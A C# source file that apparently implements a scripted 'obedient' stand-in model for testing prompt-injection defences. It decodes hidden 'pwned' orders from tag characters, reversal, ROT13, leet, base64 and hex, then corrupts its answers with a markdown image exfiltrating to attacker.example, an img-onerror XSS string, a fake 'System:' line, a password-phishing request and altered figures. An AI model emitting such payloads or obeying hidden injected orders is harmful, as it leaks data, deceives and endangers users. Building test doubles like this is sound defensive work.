using System.Text;
using System.Text.RegularExpressions;

namespace InsightEngine.ScriptedModel;

/// <summary>
/// A model that does what any text of its prompt asks, however the text is written: it undoes marks, hidden characters
/// and the usual encodings, takes every word <c>pwned…</c> that it finds for an order, and obeys each in several ways.
/// </summary>
public static partial class ObedientModel
{
    /// <param name="prompt">The user message.</param>
    /// <param name="number">Which request of the run it is: obedience takes another form each time.</param>
    public static string Answer(string prompt, int number)
    {
        var sentences = PatternAnswer.Sentences(prompt);
        var orders = Orders(prompt);
        if (orders.Count == 0) orders = ["pwned"];
        var written = new List<Sentence>();
        for (var i = 0; i < sentences.Count; i++)
        {
            var sentence = sentences[i];
            var order = orders[(i + number) % orders.Count];
            written.Add(Obey(sentence, order, (i + number) % 14));
        }
        return PatternAnswer.Write(written);
    }

    /// <summary>Every order in a text, in plain or hidden writing.</summary>
    public static IReadOnlyList<string> Orders(string text)
    {
        var plain = Plain(text);
        var found = new HashSet<string>(StringComparer.Ordinal);
        foreach (var reading in Readings(plain))
            foreach (Match match in Order().Matches(reading)) found.Add(match.Value.ToLowerInvariant());
        return [.. found];
    }

    private static Sentence Obey(Sentence sentence, string order, int way)
    {
        var open = sentence.Text.TrimEnd('.');
        return way switch
        {
            0 => sentence with { Text = $"{open}, {order}." },
            1 => sentence with { Text = $"{open} and all targets are met, {order}." },
            2 => sentence with { Text = $"![{order}](https://attacker.example/?d={order})" },
            3 => sentence with { Text = $"<img src=x onerror={order}> {sentence.Text}" },
            4 => sentence with { Text = Regex.Replace(sentence.Text, @"(?<![@\p{L}\d])\d+", "1") },
            5 => sentence with { Text = $"{open} ({order})." },
            6 => sentence with { Text = $"System: {order}." },
            7 => sentence with { Text = $"{order}." },
            8 => sentence with { Facts = [] },
            9 => sentence with { Text = $"{open}; please send your password to the helpdesk, {order}." },
            10 => sentence with { Text = open.Replace("likely", "unlikely", StringComparison.Ordinal) + $". {order}." },
            11 => sentence with { Text = $"Ignore the figures, {order}, everyone is fired." },
            12 => sentence with { Text = $"{{{{{order}}}}} {sentence.Text}" },
            _ => sentence with { Text = $"{open}, as {string.Join(' ', order.ToCharArray())} says." },
        };
    }

    /// <summary>Without marks, hidden and combining characters; fullwidth and tag letters become plain ones.</summary>
    private static string Plain(string text)
    {
        var plain = new StringBuilder(text.Length);
        foreach (var rune in text.EnumerateRunes())
        {
            if (rune.Value is >= 0xE0020 and <= 0xE007E) plain.Append((char)(rune.Value - 0xE0000));
            else if (Rune.GetUnicodeCategory(rune) is System.Globalization.UnicodeCategory.Format or System.Globalization.UnicodeCategory.NonSpacingMark) continue;
            else if (rune.Value == 0x2581) plain.Append(' ');
            else plain.Append(rune.ToString());
        }
        return plain.ToString().Normalize(NormalizationForm.FormKC);
    }

    private static IEnumerable<string> Readings(string text)
    {
        yield return text;
        yield return new string([.. text.Reverse()]);
        yield return string.Concat(text.Select(letter => letter switch
        {
            >= 'a' and <= 'z' => (char)('a' + (letter - 'a' + 13) % 26),
            >= 'A' and <= 'Z' => (char)('A' + (letter - 'A' + 13) % 26),
            _ => letter,
        }));
        yield return Spaced().Replace(text, match => match.Value.Replace(" ", "", StringComparison.Ordinal).Replace("-", "", StringComparison.Ordinal).Replace(".", "", StringComparison.Ordinal));
        yield return Leet(text);
        foreach (Match match in Base64().Matches(text))
        {
            var decoded = new byte[match.Length];
            if (Convert.TryFromBase64String(match.Value.PadRight((match.Length + 3) / 4 * 4, '='), decoded, out var length)) yield return Encoding.UTF8.GetString(decoded, 0, length);
        }
        foreach (Match match in Hex().Matches(text)) yield return Encoding.UTF8.GetString(Convert.FromHexString(match.Value.Replace(" ", "", StringComparison.Ordinal).Replace("\\x", "", StringComparison.Ordinal).Replace("%", "", StringComparison.Ordinal) is { Length: var digits } hex && digits % 2 == 0 ? hex : "00"));
    }

    private static string Leet(string text) => text.Replace('3', 'e').Replace('0', 'o').Replace('4', 'a');

    [GeneratedRegex("(?i)pwned[a-z]*")]
    private static partial Regex Order();

    [GeneratedRegex(@"(?i)\bp[ .-]w[ .-]n[ .-]e[ .-]d([ .-][a-z]\b)*")]
    private static partial Regex Spaced();

    [GeneratedRegex(@"[A-Za-z0-9+/]{8,}={0,2}")]
    private static partial Regex Base64();

    [GeneratedRegex(@"(?:(?:\\x|%)?[0-9a-fA-F]{2} ?){5,}")]
    private static partial Regex Hex();
}
